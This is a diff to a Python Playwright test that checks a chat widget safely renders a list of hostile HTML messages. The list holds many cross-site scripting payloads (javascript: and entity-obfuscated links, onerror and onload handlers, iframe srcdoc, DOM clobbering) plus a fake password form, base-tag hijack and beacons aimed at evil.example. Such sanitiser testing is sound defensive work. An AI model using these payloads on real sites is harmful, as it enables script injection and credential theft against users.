@@ -2,7 +2,7 @@
 
 import unittest
 
-from case import Case, mark, message
+from case import Case, mark, message, requests
 from playwright.sync_api import Page, expect
 from scene import DANA
 
@@ -21,7 +21,8 @@ HOSTILE = [
     "<svg><image href=https://evil.example/i.png /></svg>",
     "<svg><a xlink:href=javascript:window.owned=1><text y=20>Click</text></a></svg>",
     "<svg><style><img src=x onerror=window.owned=1></style></svg>",
-    "<math><mtext><table><mglyph><style><img src=x onerror=window.owned=1></style></mglyph></table></mtext></math>",
+    "<math><mtext><table><mglyph><style><img src=x onerror=window.owned=1></style></mglyph></table></mtext>"
+    "</math>",
     "<math href=javascript:window.owned=1>Click</math>",
     "<iframe src=javascript:parent.owned=1></iframe>",
     "<iframe srcdoc='<script>parent.owned=1</script>'></iframe>",
@@ -34,16 +35,19 @@ HOSTILE = [
     "<p style='background:url(https://evil.example/c.png);position:fixed;inset:0;z-index:9999'>Over all</p>",
     "<base href=https://evil.example/><a href=x>Relative</a>",
     "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
-    "<form action=https://evil.example/><input name=password autofocus onfocus=window.owned=1><button>Log in</button>",
+    "<form action=https://evil.example/><input name=password autofocus onfocus=window.owned=1>"
+    "<button>Log in</button>",
     "<form id=childNodes><input name=localName><input name=attributes></form><img src=x onerror=window.owned=1>",
     "<a href=javascript:window.owned=1>Click</a>",
     "<a href='java&#x0a;script:window.owned=1'>Click</a>",
     "<a href=' &#14; javascript:window.owned=1'>Click</a>",
     "<a href='data:text/html,<script>window.owned=1</script>'>Click</a>",
     "<a href=vbscript:window.owned=1>Click</a>",
-    "<a href=https://evil.example/ target=_top onclick=window.owned=1 ping=https://evil.example/p>https://shop.example.com</a>",
+    "<a href=https://evil.example/ target=_top onclick=window.owned=1 ping=https://evil.example/p>"
+    "https://shop.example.com</a>",
     "<details open ontoggle=window.owned=1><summary>More</summary></details>",
-    "<video autoplay poster=https://evil.example/v.png><source src=https://evil.example/v.mp4 onerror=window.owned=1></video>",
+    "<video autoplay poster=https://evil.example/v.png>"
+    "<source src=https://evil.example/v.mp4 onerror=window.owned=1></video>",
     "<audio src=https://evil.example/a.mp3 autoplay></audio>",
     "<body onload=window.owned=1 background=https://evil.example/bg.png>Body</body>",
     "<table background=https://evil.example/t.png><td background=https://evil.example/d.png>Cell</table>",
@@ -85,8 +89,7 @@ class Hostile(Case):
     def look(self, conversation: str, count: int = 1) -> Page:
         """The thread with so many messages, read from its first on."""
         visit = self.agent()
-        asked: list[str] = []
-        visit.context.on("request", lambda it: asked.append(it.url))
+        asked = requests(visit.context)
         visit.page.on("dialog", lambda it: self.fail(f"a dialog says {it.message}"))
         visit.page.goto(self.scene.widget(conversation))
         expect(mark(visit.page, "view")).to_be_visible()
@@ -98,9 +101,10 @@ class Hostile(Case):
 
     def thread(self, body_type: str) -> Page:
         """All of them in one thread."""
-        thread = self.scene.post("First")
-        for text in HOSTILE:
-            self.scene.post(text, thread, message={"body_type": body_type})
+        thread = self.scene.post("First", message={"body_type": body_type})
+        for text in HOSTILE[:-1]:
+            self.scene.write(text, thread, message={"body_type": body_type})
+        self.scene.post(HOSTILE[-1], thread, message={"body_type": body_type})
         return self.look(self.scene.give(thread), len(HOSTILE) + 1)
 
     def inventory(self, page: Page) -> tuple[set[str], set[str]]:
